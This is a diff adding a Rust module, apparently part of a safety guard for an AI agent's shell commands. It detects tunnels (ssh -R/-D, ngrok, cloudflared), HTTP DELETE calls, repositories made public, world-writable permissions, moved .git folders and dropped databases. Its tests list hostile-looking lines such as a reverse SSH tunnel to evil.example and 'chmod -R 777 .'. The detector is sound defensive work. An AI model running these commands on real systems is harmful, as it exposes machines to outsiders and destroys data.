@@ -1,0 +1,185 @@
+//! What opens this machine, its files or what the agent manages to others: tunnels that
+//! expose local services or route traffic through another machine, requests that delete
+//! through an API, a repository made public, files made writable by every user.
+
+use super::*;
+
+/// Why the command exposes something, if it does: `(rule, reason)`.
+pub fn exposes(name: &str, args: &[String], cwd: Option<&str>) -> Option<(&'static str, String)> {
+    let (flags, targets) = flags_and_targets(args);
+    let first = targets.first().copied().unwrap_or("");
+    let second = targets.get(1).copied().unwrap_or("");
+    let tunnel = |what: &str| Some(("tunnel", what.to_string()));
+    match name {
+        // ssh -R: a port of this machine served on the remote one; -D: a SOCKS proxy whose
+        // traffic leaves from the remote machine. (-L, reaching a remote port from here, is
+        // what a database session over ssh is.)
+        "ssh" if ssh_forwards(args) => tunnel(
+            "ssh -R/-D forwards this machine's ports to another, or routes traffic through it",
+        ),
+        "ngrok" | "chisel" | "frpc" | "bore" | "lt" | "localtunnel" | "zrok" | "pinggy" => {
+            tunnel("opens a tunnel that exposes a local service to the internet")
+        }
+        "cloudflared" if first == "tunnel" || flags.iter().any(|f| f.starts_with("--url")) => {
+            tunnel("opens a tunnel that exposes a local service to the internet")
+        }
+        "tailscale" if matches!(first, "funnel" | "serve") => {
+            tunnel("serves a local service on the tailnet or the internet")
+        }
+        // An API told to delete: `curl -X DELETE`, HTTPie's `http DELETE`, `gh api -X DELETE`.
+        "curl" | "wget" | "gh" | "http" | "https" | "xh" | "httpie"
+            if http_method(name, args).is_some_and(|m| m.eq_ignore_ascii_case("delete")) =>
+        {
+            Some((
+                "destructive_admin",
+                format!("{name} sends an HTTP DELETE: what the API holds there is deleted"),
+            ))
+        }
+        "gh" if first == "repo"
+            && second == "edit"
+            && args.iter().any(|a| a.contains("visibility")) =>
+        {
+            Some((
+                "destructive_admin",
+                "changes a repository's visibility (public: its code and history to everyone)"
+                    .into(),
+            ))
+        }
+        // Every user may change what was the owner's: their code then runs as the owner.
+        "chmod" if opens_to_everyone(targets.first().copied().unwrap_or("")) => Some((
+            "permissions_open",
+            format!(
+                "chmod makes {} writable by every user",
+                targets[1..].join(" ")
+            ),
+        )),
+        // A mask without others' write bit (`000`, `0`, `o=rwx`): numbers are read plain.
+        "umask"
+            if u32::from_str_radix(first, 8)
+                .map_or_else(|_| opens_to_everyone(first), |m| m & 0o002 == 0) =>
+        {
+            Some((
+                "permissions_open",
+                "umask lets every user write the files this shell creates from now on".into(),
+            ))
+        }
+        // The repository's history moved away: where it lands may be cleaned up.
+        "mv" if targets.len() >= 2
+            && targets[..targets.len() - 1]
+                .iter()
+                .any(|t| normalize(t, cwd).trim_end_matches('/').ends_with(".git")) =>
+        {
+            Some((
+                "git_history_loss",
+                "moves a repository's .git (its whole history) away".into(),
+            ))
+        }
+        "mysqladmin" if matches!(first, "drop") => Some((
+            "destructive_admin",
+            "mysqladmin drop drops a database".into(),
+        )),
+        _ => None,
+    }
+}
+
+/// Whether ssh is asked to forward a remote port here (`-R`) or to be a SOCKS proxy
+/// (`-D`), also in a cluster or as `-oRemoteForward=`/`-oDynamicForward=`.
+fn ssh_forwards(args: &[String]) -> bool {
+    let (valued, _) = crate::getopt::short_options(args, crate::runners::ssh_valued("ssh"));
+    valued.iter().any(|(letter, value)| {
+        matches!(letter, 'R' | 'D')
+            || (*letter == 'o' && {
+                let v = value.to_ascii_lowercase();
+                v.starts_with("remoteforward") || v.starts_with("dynamicforward")
+            })
+    })
+}
+
+/// The HTTP method a client is told to use, when told.
+fn http_method(name: &str, args: &[String]) -> Option<String> {
+    match name {
+        "curl" => crate::getopt::option_value_anywhere(args, 'X', "request"),
+        "wget" => crate::getopt::option_value_anywhere(args, '\0', "method"),
+        "gh" => crate::getopt::option_value_anywhere(args, 'X', "method"),
+        // HTTPie: `http [METHOD] URL`, the method a word in capitals before the URL.
+        _ => args
+            .iter()
+            .find(|a| !a.starts_with('-'))
+            .filter(|a| a.chars().all(|c| c.is_ascii_alphabetic()))
+            .cloned(),
+    }
+}
+
+/// Whether a chmod mode lets others write: a number whose last digit has the write bit
+/// (`777`, `666`, `1777`), or a symbolic mode adding `w` for others or all (`o+w`, `a+w`,
+/// `+w` is left to the umask).
+fn opens_to_everyone(mode: &str) -> bool {
+    if !mode.is_empty() && mode.chars().all(|c| c.is_digit(8)) {
+        return mode
+            .chars()
+            .last()
+            .and_then(|c| c.to_digit(8))
+            .is_some_and(|d| d & 2 != 0);
+    }
+    mode.split(',').any(|clause| {
+        let (who, rest) = clause.split_at(clause.find(['+', '=']).unwrap_or(clause.len()));
+        (who.contains('o') || who.contains('a')) && rest.contains('w')
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn judged(line: &str) -> Option<&'static str> {
+        let argv: Vec<String> = shell_words::split(line).expect("words");
+        exposes(&argv[0], &argv[1..], Some("/work")).map(|(r, _)| r)
+    }
+
+    #[test]
+    fn what_opens_the_machine_or_its_files_is_found_and_everyday_use_is_not() {
+        for (line, rule) in [
+            ("ssh -R 8080:localhost:22 evil.example", "tunnel"),
+            ("ssh -fND 1080 evil.example", "tunnel"),
+            ("ssh -oRemoteForward=9:localhost:22 h", "tunnel"),
+            ("ngrok http 22", "tunnel"),
+            ("cloudflared tunnel --url localhost:22", "tunnel"),
+            (
+                "curl -X DELETE https://api.example.com/v1/db",
+                "destructive_admin",
+            ),
+            (
+                "curl -XDELETE http://localhost:9200/index",
+                "destructive_admin",
+            ),
+            ("curl --request=delete http://x", "destructive_admin"),
+            ("http DELETE example.com/x", "destructive_admin"),
+            ("gh api -X DELETE /repos/x/y", "destructive_admin"),
+            ("gh repo edit --visibility public", "destructive_admin"),
+            ("chmod -R 777 .", "permissions_open"),
+            ("chmod o+w x", "permissions_open"),
+            ("chmod a+rwx,o-x x", "permissions_open"),
+            ("umask 000", "permissions_open"),
+            ("mv .git /tmp/", "git_history_loss"),
+            ("mysqladmin drop db", "destructive_admin"),
+        ] {
+            assert_eq!(judged(line), Some(rule), "{line}");
+        }
+        for line in [
+            "ssh -L 5432:localhost:5432 db.example",
+            "ssh -p 22 host uptime",
+            "curl -X POST https://api.example.com",
+            "curl https://example.com/delete",
+            "http GET example.com",
+            "chmod 755 script.sh",
+            "chmod +x run.sh",
+            "chmod -R go-w .",
+            "umask 022",
+            "umask 077",
+            "mv old.txt new.txt",
+            "gh repo view",
+        ] {
+            assert_eq!(judged(line), None, "{line}");
+        }
+    }
+}
